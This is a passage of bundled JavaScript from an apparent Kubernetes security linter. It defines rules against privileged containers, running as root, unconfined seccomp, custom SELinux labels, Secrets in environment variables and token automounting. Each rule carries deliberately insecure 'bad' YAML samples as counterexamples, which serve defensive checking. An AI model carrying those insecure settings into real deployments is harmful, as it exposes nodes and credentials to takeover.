    guard: (resource) => (resource.kind === 'Namespace' ? resource.at('metadata', 'labels', label) : undefined),
    *check(resource) {
        if (resource.kind !== 'Namespace' || resource.group !== '' || resource.partial || pod_security_label_missing_system.has(resource.name))
            return;
        if (!(0,yaml_values/* isMissing */.b2)(resource.root, 'metadata', 'labels', label))
            return;
        const message = `namespace "${resource.name}" enforces no Pod Security Standard`;
        const edit = setAt(resource.document.text, resource.root, ['metadata', 'labels', label], 'baseline');
        yield { at: resource.anchor, field: label, message, fix: (0,rule/* unsafeFix */.ed)('Enforce the level `baseline`', edit) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/pod-security-privileged-namespace.js



/* harmony default export */ const pod_security_privileged_namespace = ((0,rule/* defineRule */.Km)({
    id: 'k8s/pod-security-privileged-namespace',
    severity: 'high',
    threat: 'runtime',
    summary: 'A namespace lets privileged pods in',
    why: 'With `enforce: privileged` no Pod Security Standard holds in the namespace: whoever may create a pod there owns the node.',
    instead: 'Enforce `baseline` or `restricted`; keep the few pods that need more in a namespace of their own.',
    references: [
        kubernetes('concepts/security/pod-security-admission/', 'Pod Security admission'),
        nsa('Pod security enforcement'),
        attack('T1610'),
    ],
    peers: ['kyverno:deny-privileged-profile', 'kubescape:pod-security-admission-applied-1'],
    bad: `
apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    pod-security.kubernetes.io/enforce: privileged
`,
    good: `
apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    pod-security.kubernetes.io/enforce: baseline
`,
    on: 'resource',
    *check(resource) {
        if (resource.kind !== 'Namespace' || resource.group !== '')
            return;
        const level = resource.at('metadata', 'labels', 'pod-security.kubernetes.io/enforce');
        if (level?.kind !== 'scalar' || level.string !== 'privileged')
            return;
        const fix = (0,rule/* unsafeFix */.ed)('Enforce the level `baseline`', replaceScalar(level, 'baseline'));
        yield { at: level, message: `namespace "${resource.name}" enforces no Pod Security Standard`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/privileged-container.js



/* harmony default export */ const privileged_container = ((0,rule/* defineRule */.Km)({
    id: 'k8s/privileged-container',
    severity: 'critical',
    threat: 'runtime',
    summary: 'A container runs privileged',
    why: 'A privileged container has every capability and every device of the node: one exploit in it owns the node.',
    instead: 'Remove `privileged`, and add the one capability or device that is needed.',
    references: [pss.baseline('Privileged Containers'), cwe(250), attack('T1611')],
    peers: ['trivy:KSV-0017', 'checkov:CKV_K8S_16', 'kube-linter:privileged-container', 'kics:container_is_privileged'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        privileged: true
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'container',
    *check(container) {
        const privileged = container.at('securityContext', 'privileged');
        if (privileged?.boolean !== true)
            return;
        yield {
            at: privileged,
            message: `container "${container.name}" is privileged`,
            fix: (0,rule/* unsafeFix */.ed)('Remove `privileged`', removeAt(container.document.text, container.node, ['securityContext', 'privileged'])),
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/proc-mount-unmasked.js




/* harmony default export */ const proc_mount_unmasked = ((0,rule/* defineRule */.Km)({
    id: 'k8s/proc-mount-unmasked',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container sees the whole of /proc',
    why: 'The runtime hides parts of /proc that tell about the node and change its kernel; Unmasked shows them to the container.',
    instead: 'Leave `procMount` out.',
    references: [
        pss.baseline('/proc Mount Type'),
        kubernetes('concepts/workloads/pods/user-namespaces/#integration-with-pod-security-admission-checks', 'user namespaces'),
        attack('T1611'),
    ],
    peers: ['trivy:KSV-0027', 'kube-linter:unsafe-proc-mount', 'gatekeeper:proc-mount', 'kics:container_runs_unmasked'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        procMount: Unmasked
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'container',
    *check(container) {
        const value = container.at('securityContext', 'procMount');
        if (value?.kind !== 'scalar' || value.templated || value.value === null || value.string === 'Default')
            return;
        // The baseline level allows it in a user namespace, the restricted level never: a container that drops ALL claims the latter.
        const dropped = (0,yaml_values/* scalarsIn */.PX)(container.at('securityContext', 'capabilities', 'drop')).some(({ string }) => string === 'ALL');
        if (container.workload.userNamespace && !dropped)
            return;
        const edit = removeAt(container.document.text, container.node, ['securityContext', 'procMount']);
        yield { at: value, message: `container "${container.name}" sees /proc ${value.string}`, fix: (0,rule/* unsafeFix */.ed)('Remove `procMount`', edit) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/read-only-root-filesystem.js




const read_only_root_filesystem_field = 'readOnlyRootFilesystem';
/* harmony default export */ const read_only_root_filesystem = ((0,rule/* defineRule */.Km)({
    id: 'k8s/read-only-root-filesystem',
    severity: 'medium',
    threat: 'immutability',
    summary: 'The root file system of a container can be written',
    why: 'What a container writes over its image nobody has reviewed: an intruder can replace programs and bring tools, and they stay until the restart.',
    instead: 'Set `readOnlyRootFilesystem: true`, and mount an `emptyDir` where the program writes.',
    references: [
        kubernetes('tasks/configure-pod-container/security-context/', 'security context'),
        nsa('Immutable container file systems'),
        cwe(732),
    ],
    peers: ['trivy:KSV-0014', 'checkov:CKV_K8S_22', 'kube-linter:no-read-only-root-fs', 'kics:root_container_not_mounted_as_read_only'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        readOnlyRootFilesystem: true
`,
    on: 'container',
    guard: (container) => container.at('securityContext', read_only_root_filesystem_field),
    *check(container) {
        if (container.workload.windows)
            return;
        const value = container.at('securityContext', read_only_root_filesystem_field);
        const message = `the root file system of container "${container.name}" can be written`;
        const fix = (0,rule/* unsafeFix */.ed)(`Set \`${read_only_root_filesystem_field}: true\``, setSecurity(container, [read_only_root_filesystem_field], true));
        if (value?.boolean === false)
            yield { at: value, message, fix };
        else if (!container.partial && (0,yaml_values/* isMissing */.b2)(container.node, 'securityContext', read_only_root_filesystem_field))
            yield { at: container.anchor, field: read_only_root_filesystem_field, message, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/run-as-high-uid.js




const run_as_high_uid_path = ['securityContext', 'runAsUser'];
/* harmony default export */ const run_as_high_uid = ((0,rule/* defineRule */.Km)({
    id: 'k8s/run-as-high-uid',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A container runs with a user number that a user of its node may have',
    why: 'Numbers below 10000 are those of system accounts and people: after a breakout the process has their files.',
    instead: 'Set `runAsUser` to a number of 10000 or more, where the image allows it.',
    references: [kubernetes('tasks/configure-pod-container/security-context/', 'security context'), cwe(250)],
    peers: ['trivy:KSV-0020', 'checkov:CKV_K8S_40', 'kics:containers_run_with_low_uid'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsUser: 1000
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsUser: 10001
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'container',
    guard: (container) => container.effective('runAsUser'),
    *check(container) {
        const { workload } = container;
        if (workload.userNamespace || workload.windows)
            return;
        const user = container.effective('runAsUser');
        const isOwn = !(0,yaml_values/* isUnset */.K$)(container.at('securityContext', 'runAsUser'));
        if (user?.kind === 'scalar' && !user.templated && !(typeof user.value === 'number' && user.value >= 10_000)) {
            if (!isOwn && !isFirstHeir(container, 'runAsUser'))
                return;
            const subject = isOwn ? container.subject : workload.subject;
            yield { at: user, subject, message: `${subject} runs as user ${user.string}` };
        }
        else if (!container.partial && (0,yaml_values/* isMissing */.b2)(container.node, ...run_as_high_uid_path) && (0,yaml_values/* isMissing */.b2)(workload.spec, ...run_as_high_uid_path)) {
            yield { at: container.anchor, field: 'runAsUser', message: `container "${container.name}" runs as whatever user its image names` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/run-as-non-root.js





const run_as_non_root_field = 'runAsNonRoot';
/* harmony default export */ const run_as_non_root = ((0,rule/* defineRule */.Km)({
    id: 'k8s/run-as-non-root',
    severity: 'medium',
    threat: 'runtime',
    summary: 'Nothing keeps a container from running as root',
    why: 'Root in a container is root on the node once it breaks out, and needs no exploit for whatever the container can reach.',
    instead: 'Set `securityContext.runAsNonRoot: true` on the pod or the container, and give the image a numeric user.',
    references: [
        pss.restricted('Running as Non-root'),
        cwe(250),
        kubernetes('tasks/configure-pod-container/security-context/', 'security context'),
    ],
    peers: ['trivy:KSV-0012', 'checkov:CKV_K8S_23', 'kube-linter:run-as-non-root', 'kics:containers_running_as_root'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsNonRoot: true
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'container',
    guard: (container) => container.effective(run_as_non_root_field),
    *check(container) {
        const { workload } = container;
        // Root in a user namespace is nobody on the node (KEP-127).
        if (workload.userNamespace)
            return;
        const value = container.effective(run_as_non_root_field);
        const isOwn = !(0,yaml_values/* isUnset */.K$)(container.at('securityContext', run_as_non_root_field));
        if (value?.boolean === false && value.kind === 'scalar' && (isOwn || isFirstHeir(container, run_as_non_root_field))) {
            const subject = isOwn ? container.subject : workload.subject;
            const who = isOwn ? `container "${container.name}"` : workload.subject;
            yield { at: value, subject, message: `${who} may run as root`, fix: (0,rule/* unsafeFix */.ed)(`Set \`${run_as_non_root_field}: true\``, replaceScalar(value, true)) };
        }
        if (container.partial || !(0,yaml_values/* isMissing */.b2)(container.node, 'securityContext', run_as_non_root_field) || !(0,yaml_values/* isMissing */.b2)(workload.spec, 'securityContext', run_as_non_root_field))
            return;
        // The kubelet starts such a container with that user, whatever the image says.
        const user = container.effective('runAsUser');
        if (user?.kind === 'scalar' && (user.templated || (typeof user.value === 'number' && user.value > 0)))
            return;
        const fix = (0,rule/* unsafeFix */.ed)(`Set \`${run_as_non_root_field}: true\``, setSecurity(container, [run_as_non_root_field], true));
        yield { at: container.anchor, field: run_as_non_root_field, message: `container "${container.name}" may run as root: ${run_as_non_root_field} is not set`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/run-as-root-group.js




const run_as_root_group_path = ['securityContext', 'runAsGroup'];
/* harmony default export */ const run_as_root_group = ((0,rule/* defineRule */.Km)({
    id: 'k8s/run-as-root-group',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A container runs in the group root, or nothing keeps it from that',
    why: 'A user that the image does not know is in the group root unless another is named; its files on the node and in volumes are then open.',
    instead: 'Set `runAsGroup` to the number of an unprivileged group.',
    references: [kubernetes('tasks/configure-pod-container/security-context/', 'security context'), cwe(250)],
    peers: ['trivy:KSV-0116', 'kyverno:require-non-root-groups'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsGroup: 0
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsGroup: 10001
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    guard: (workload) => workload.at('securityContext', 'runAsGroup'),
    *check(workload) {
        if (workload.userNamespace || workload.windows)
            return;
        const groups = [...securityValues(workload, 'runAsGroup'), ...securityValues(workload, 'fsGroup')];
        for (const { node, subject } of groups)
            if (node.value === 0)
                yield { at: node, subject, message: `${subject} runs in the group root` };
        for (const group of (0,yaml_values/* scalarsIn */.PX)(workload.at('securityContext', 'supplementalGroups'))) {
            if (group.value === 0)
                yield { at: group, message: `${workload.subject} runs in the group root` };
        }
        if (workload.partial || !(0,yaml_values/* isMissing */.b2)(workload.spec, ...run_as_root_group_path))
            return;
        for (const { node, anchor, name, subject } of workload.containers) {
            if ((0,yaml_values/* isMissing */.b2)(node, ...run_as_root_group_path))
                yield { at: anchor, field: 'runAsGroup', subject, identity: '', message: `container "${name}" names no group` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/run-as-user-zero.js



/* harmony default export */ const run_as_user_zero = ((0,rule/* defineRule */.Km)({
    id: 'k8s/run-as-user-zero',
    severity: 'high',
    threat: 'runtime',
    summary: 'A container is set to run as root',
    why: 'Root in a container is root on the node once it breaks out, whatever user the image names.',
    instead: 'Use the number of an unprivileged user, or leave `runAsUser` out if the image names one.',
    references: [pss.restricted('Running as Non-root user'), cwe(250), attack('T1611')],
    peers: ['trivy:KSV-0105', 'kyverno:require-run-as-non-root-user'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsUser: 0
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    runAsUser: 10001
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        // Root in a user namespace is nobody on the node (KEP-127).
        if (workload.userNamespace)
            return;
        for (const value of securityValues(workload, 'runAsUser')) {
            const { node, subject } = value;
            if (node.value !== 0)
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Remove `runAsUser`', removeSecurity(workload, value, ['runAsUser']));
            yield { at: node, subject, message: `${subject} runs as root`, fix };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/seccomp-profile-missing.js




const seccomp_profile_missing_path = ['securityContext', 'seccompProfile', 'type'];
const alpha = 'seccomp.security.alpha.kubernetes.io';
/** What names a profile, the annotations from before Kubernetes 1.19 among them; `Unconfined` is told by another rule. */
function profileOf(container) {
    const field = container.effective('seccompProfile', 'type');
    if (!(0,yaml_values/* isUnset */.K$)(field))
        return field;
    const annotations = container.workload.metadata?.at('annotations');
    const old = [annotations?.at(`container.${alpha}/${container.name}`), annotations?.at(`${alpha}/pod`)];
    return old.find((node) => /^(?:runtime\/default|docker\/default|localhost\/.+|unconfined)$/.test(node?.string ?? ''));
}
/* harmony default export */ const seccomp_profile_missing = ((0,rule/* defineRule */.Km)({
    id: 'k8s/seccomp-profile-missing',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container has no seccomp profile',
    why: 'Without one a container may make every system call; the default profile of the runtime forbids those that most kernel exploits start from.',
    instead: 'Set `securityContext.seccompProfile.type: RuntimeDefault` on the pod or the container.',
    references: [pss.restricted('Seccomp'), kubernetes('tutorials/security/seccomp/', 'seccomp'), attack('T1611')],
    peers: ['trivy:KSV-0030', 'checkov:CKV_K8S_31', 'kics:seccomp_profile_is_not_configured', 'kyverno:restrict-seccomp-strict'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    seccompProfile:
      type: RuntimeDefault
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'container',
    guard: profileOf,
    *check(container) {
        const { workload } = container;
        if (container.partial || workload.windows || profileOf(container) !== undefined)
            return;
        // A profile of its own without a type hides that of the pod.
        const own = container.at('securityContext', 'seccompProfile');
        if (!(0,yaml_values/* isMissing */.b2)(container.node, ...seccomp_profile_missing_path) || ((0,yaml_values/* isUnset */.K$)(own) && !(0,yaml_values/* isMissing */.b2)(workload.spec, ...seccomp_profile_missing_path)))
            return;
        const fix = (0,rule/* safeFix */.bS)('Use the profile `RuntimeDefault`', setSecurity(container, ['seccompProfile', 'type'], 'RuntimeDefault'));
        yield { at: container.anchor, field: 'seccompProfile', message: `container "${container.name}" has no seccomp profile`, fix };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/seccomp-unconfined.js





const annotation = /^(?:container\.seccomp\.security\.alpha\.kubernetes\.io\/.+|seccomp\.security\.alpha\.kubernetes\.io\/pod)$/;
/* harmony default export */ const seccomp_unconfined = ((0,rule/* defineRule */.Km)({
    id: 'k8s/seccomp-unconfined',
    severity: 'high',
    threat: 'runtime',
    summary: 'A container may make every system call',
    why: "The runtime's default profile forbids the system calls that most kernel exploits start from; Unconfined switches it off.",
    instead: 'Use `seccompProfile.type: RuntimeDefault`, or a profile of your own with `Localhost`.',
    references: [pss.baseline('Seccomp'), kubernetes('tutorials/security/seccomp/', 'seccomp'), attack('T1611')],
    peers: ['trivy:KSV-0104', 'kubesec:SeccompUnconfined', 'kyverno:restrict-seccomp'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    seccompProfile:
      type: Unconfined
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    seccompProfile:
      type: RuntimeDefault
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        const without = workload.containers.filter((container) => (0,yaml_values/* isUnset */.K$)(container.at('securityContext', 'seccompProfile')));
        for (const { node, subject, container } of securityValues(workload, 'seccompProfile', 'type')) {
            if (node.kind !== 'scalar' || node.templated || node.string === 'RuntimeDefault' || node.string === 'Localhost')
                continue;
            // A profile of the pod that every container replaces is in no effect.
            if (container === null && without.length === 0 && workload.containers.length > 0)
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Use the profile `RuntimeDefault`', replaceScalar(node, 'RuntimeDefault'));
            yield { at: node, subject, message: `the seccomp profile is "${node.string}"`, fix };
        }
        for (const { key, value } of (0,yaml_values/* entriesOf */.Mc)(workload.metadata?.at('annotations'))) {
            if (value.kind !== 'scalar' || value.string !== 'unconfined' || !annotation.test(key.string))
                continue;
            // The field wins over the annotation.
            if (without.every((container) => container.effective('seccompProfile') !== undefined))
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Use the profile `runtime/default`', replaceScalar(value, 'runtime/default'));
            yield { at: value, message: `the annotation "${key.string}" switches seccomp off`, fix };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/secret-env-var.js



/* harmony default export */ const secret_env_var = ((0,rule/* defineRule */.Km)({
    id: 'k8s/secret-env-var',
    severity: 'low',
    threat: 'secret',
    summary: 'A Secret is given to a container in its environment',
    why: 'The environment is read by every library, inherited by every child and printed by crash reports and debug pages.',
    instead: 'Mount the Secret as a file; where the program reads nothing but its environment, waive this.',
    references: [
        kubernetes('concepts/configuration/secret/#using-secrets-as-environment-variables', 'Secrets as environment variables'),
        cwe(526),
        attack('T1552.007'),
    ],
    peers: [
        'checkov:CKV_K8S_35',
        'kube-linter:read-secret-from-env-var',
        'kics:secrets_as_environment_variables',
        'kyverno:secrets-not-from-env-vars',
    ],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      env:
        - name: PASSWORD
          valueFrom:
            secretKeyRef:
              name: database
              key: password
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: database
      secret:
        secretName: database
        items:
          - key: password
            path: password
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: database
          mountPath: /etc/database
          readOnly: true
`,
    on: 'container',
    *check(container) {
        for (const variable of (0,yaml_values/* mapsIn */.nf)(container.at('env'))) {
            const reference = variable.at('valueFrom', 'secretKeyRef');
            if (reference?.kind !== 'map')
                continue;
            const name = variable.at('name')?.string ?? '';
            const message = `container "${container.name}" has the Secret "${reference.at('name')?.string ?? ''}" in the variable ${name}`;
            yield { at: reference.at('key') ?? reference, field: name, message };
        }
        for (const source of (0,yaml_values/* mapsIn */.nf)(container.at('envFrom'))) {
            const name = source.at('secretRef', 'name');
            if (name !== undefined)
                yield { at: name, message: `container "${container.name}" has the Secret "${name.string ?? ''}" in its environment` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/secret-manifest-committed.js



/* harmony default export */ const secret_manifest_committed = ((0,rule/* defineRule */.Km)({
    id: 'k8s/secret-manifest-committed',
    severity: 'low',
    strict: true,
    threat: 'secret',
    summary: 'A Secret with its data is part of the repository',
    why: 'Base64 is no encryption: whoever reads the repository reads the Secret, and the history keeps it.',
    instead: 'Commit a SealedSecret, an ExternalSecret or a SOPS file instead.',
    references: [kubernetes('concepts/security/secrets-good-practices/', 'good practices for Secrets'), cwe(312), attack('T1552.001')],
    peers: ['kics:using_kubernetes_native_secret_management'],
    bad: `
apiVersion: v1
kind: Secret
metadata:
  name: builder
type: Opaque
stringData:
  user: web
`,
    good: `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: builder
spec:
  secretStoreRef:
    name: vault
  target:
    name: builder
`,
    on: 'resource',
    *check(resource) {
        if (resource.kind !== 'Secret' || resource.group !== '' || resource.at('sops') !== undefined)
            return;
        for (const field of ['data', 'stringData']) {
            const values = [...(0,yaml_values/* entriesOf */.Mc)(resource.at(field))].map((entry) => entry.value);
            const known = values.some((value) => value.kind === 'scalar' && !value.templated && value.string !== '');
            if (known)
                yield { at: resource.anchor, field, message: `Secret "${resource.name}" is committed with its ${field}` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/security-setting-removed.js



/** Each holds a container back, and does so only where it is written. */
const security_setting_removed_settings = new Set([
    'allowPrivilegeEscalation',
    'appArmorProfile',
    'capabilities',
    'drop',
    'readOnlyRootFilesystem',
    'runAsNonRoot',
    'seccompProfile',
    'securityContext',
]);
const security_setting_removed_told = { $patch: 'the security settings', item: 'a dropped capability' };
/* harmony default export */ const security_setting_removed = ((0,rule/* defineRule */.Km)({
    id: 'k8s/security-setting-removed',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A patch or the values of a chart take a security setting away',
    why: 'In a patch, null and `$patch: delete` remove what the patched object sets, as null in the values of a chart removes what the chart sets: its pods then run without that protection.',
    instead: 'Leave the setting out, or give it a value that protects.',
    references: [
        kubernetes('tasks/manage-kubernetes-objects/update-api-object-kubectl-patch/', 'strategic merge patch'),
        { title: 'Helm: deleting a default key', url: 'https://helm.sh/docs/chart_template_guide/values_files/#deleting-a-default-key' },
        kubernetes('tasks/configure-pod-container/security-context/', 'security context'),
        cwe(693),
    ],
    bad: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      containers:
        - name: web
          securityContext:
            readOnlyRootFilesystem: null
`,
    good: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      containers:
        - name: web
          securityContext:
            readOnlyRootFilesystem: true
`,
    on: 'workload',
    *check(workload) {
        // What a template leaves empty it may fill when it is rendered.
        if (!workload.partial || workload.document.partial)
            return;
        const by = workload.resource.main === undefined ? 'the patch' : 'null';
        for (const { subject, node } of [{ subject: workload.subject, node: workload.spec }, ...workload.containers])
            for (const { at, name } of removed(node))
                yield { at, subject, field: name, message: `${by} takes ${security_setting_removed_told[name] ?? name} from ${subject}` };
    },
}));
/** What removes a setting from a pod or container. */
function* removed(holder) {
    const context = [...(0,yaml_values/* entriesOf */.Mc)(holder)].filter(({ key }) => key.string === 'securityContext');
    const fields = (0,yaml_values/* entriesOf */.Mc)(holder.at('securityContext'));
    const capabilities = [...(0,yaml_values/* entriesOf */.Mc)(holder.at('securityContext', 'capabilities'))].filter(({ key }) => key.string !== 'add');
    for (const { key, value } of [...context, ...fields, ...capabilities]) {
        const at = value.span.start === value.span.end ? key : value;
        if (security_setting_removed_settings.has(key.string) && value.value === null)
            yield { at, name: key.string };
        if (key.string === '$patch' && value.value === 'delete')
            yield { at, name: '$patch' };
    }
    for (const item of (0,yaml_values/* itemsOf */.S3)(holder.at('securityContext', 'capabilities', 'drop')))
        if (item.value === null)
            yield { at: item, name: 'item' };
}

;// CONCATENATED MODULE: ./lib/rules/k8s/selinux-options.js



const types = new Set(['container_t', 'container_init_t', 'container_kvm_t', 'container_engine_t']);
/* harmony default export */ const selinux_options = ((0,rule/* defineRule */.Km)({
    id: 'k8s/selinux-options',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container gets an SELinux label of its own',
    why: 'A user, a role or a type beside the container types takes the container out of the confinement that SELinux gives it.',
    instead: 'Leave `seLinuxOptions` out, or set only `level` and a container type.',
    references: [pss.baseline('SELinux'), attack('T1611')],
    peers: ['trivy:KSV-0025', 'gatekeeper:selinux', 'kyverno:disallow-selinux'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    seLinuxOptions:
      type: spc_t
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    seLinuxOptions:
      type: container_t
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        for (const field of ['type', 'user', 'role']) {
            for (const value of securityValues(workload, 'seLinuxOptions', field)) {
                const { node, subject } = value;
                if (node.kind !== 'scalar' || node.templated || node.string === '' || (field === 'type' && types.has(node.string)))
                    continue;
                const fix = (0,rule/* unsafeFix */.ed)(`Remove \`${field}\``, removeSecurity(workload, value, ['seLinuxOptions', field]));
                yield { at: node, subject, message: `the SELinux ${field} is "${node.string}"`, fix };
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/documents/kubernetes-accounts.js
const kubernetes_accounts_known = new WeakMap();
/** The ServiceAccounts of documents, found once for each `owner` (a document, an estate). */
function serviceAccountsIn(owner, documents) {
    const found = kubernetes_accounts_known.get(owner);
    if (found !== undefined)
        return found;
    const accounts = new Map();
    for (const document of documents) {
        for (const resource of document.grains('resource')) {
            if (resource.kind !== 'ServiceAccount')
                continue;
            const equal = accounts.get(resource.name);
            if (equal === undefined)
                accounts.set(resource.name, [resource]);
            else
                equal.push(resource);
        }
    }
    kubernetes_accounts_known.set(owner, accounts);
    return accounts;
}
/** Those that a workload may run as; where one side has no namespace, it is given on install. */
function accountsOf(workload, accounts) {
    const name = workload.at('serviceAccountName')?.string || workload.at('serviceAccount')?.string || 'default';
    const { namespace } = workload.resource;
    return (accounts.get(name) ?? []).filter((account) => !account.namespace || !namespace || account.namespace === namespace);
}

;// CONCATENATED MODULE: ./lib/rules/k8s/service-account-token-automount.js





const service_account_token_automount_field = 'automountServiceAccountToken';
const saysFalse = (account) => account.at(service_account_token_automount_field)?.boolean === false;
/* harmony default export */ const service_account_token_automount = ((0,rule/* defineRule */.Km)({
    id: 'k8s/service-account-token-automount',
    severity: 'medium',
    threat: 'access',
    summary: 'A pod gets a token for the API server that it may not need',
    why: 'Every program in the pod, and whoever breaks into one, may use the token with all that its service account is allowed.',
    instead: 'Set `automountServiceAccountToken: false` on the pod or on its ServiceAccount; mount a projected token where one is needed.',
    references: [
        kubernetes('tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting', 'opting out of API credential automounting'),
        attack('T1528'),
        cwe(522),
    ],
    peers: [
        'trivy:KSV-0036',
        'checkov:CKV_K8S_38',
        'gatekeeper:automount-serviceaccount-token',
        'kics:service_account_token_automount_not_disabled',
    ],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  automountServiceAccountToken: false
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    guard: (workload) => workload.at(service_account_token_automount_field),
    // Where the pod says nothing, its ServiceAccount decides.
    excusedBy: {
        mentions: /^(?=.*\bServiceAccount\b).*\bautomountServiceAccountToken\b/s,
        excuses: (workload, estate) => workload.at(service_account_token_automount_field)?.boolean !== true && accountsOf(workload, serviceAccountsIn(estate, estate.documents)).some(saysFalse),
    },
    *check(workload) {
        if (workload.containers.some(namesToken))
            return;
        const value = workload.at(service_account_token_automount_field);
        const fix = (0,rule/* unsafeFix */.ed)(`Set \`${service_account_token_automount_field}: false\``, setAt(workload.document.text, workload.spec, [service_account_token_automount_field], false));
        const message = `${workload.subject} gets a token of its service account`;
        if (value?.boolean === true)
            yield { at: value, message, fix };
        if (workload.partial || !(0,yaml_values/* isMissing */.b2)(workload.spec, service_account_token_automount_field))
            return;
        const accounts = accountsOf(workload, serviceAccountsIn(workload.document, [workload.document]));
        if (!accounts.some(saysFalse))
            yield { at: workload.anchor, field: service_account_token_automount_field, message, fix };
    },
}));
/** A container that is told where the token is needs it. */
const namesToken = (container) => [
    ...(0,yaml_values/* mapsIn */.nf)(container.at('env')).map((variable) => variable.at('value')),
    ...(0,yaml_values/* scalarsIn */.PX)(container.at('command')),
    ...(0,yaml_values/* scalarsIn */.PX)(container.at('args')),
].some((node) => node?.string?.includes('/run/secrets/kubernetes.io/serviceaccount'));

;// CONCATENATED MODULE: ./lib/rules/k8s/service-account-token-secret.js


/* harmony default export */ const service_account_token_secret = ((0,rule/* defineRule */.Km)({
    id: 'k8s/service-account-token-secret',
    severity: 'medium',
    threat: 'access',
    summary: 'A Secret holds a service account token that never expires',
    why: 'Such a token works from anywhere until the Secret is deleted; since Kubernetes 1.24 pods need none.',
    instead: 'Use the TokenRequest API or a projected volume, whose tokens are bound to the pod and expire.',
    references: [
        kubernetes('concepts/configuration/secret/#serviceaccount-token-secrets', 'service account token Secrets'),
        attack('T1528'),
        cwe(613),
    ],
    peers: ['kyverno:deny-secret-service-account-token-type'],
    bad: `
apiVersion: v1
kind: Secret
metadata:
  name: builder
  annotations:
    kubernetes.io/service-account.name: builder
type: kubernetes.io/service-account-token
`,
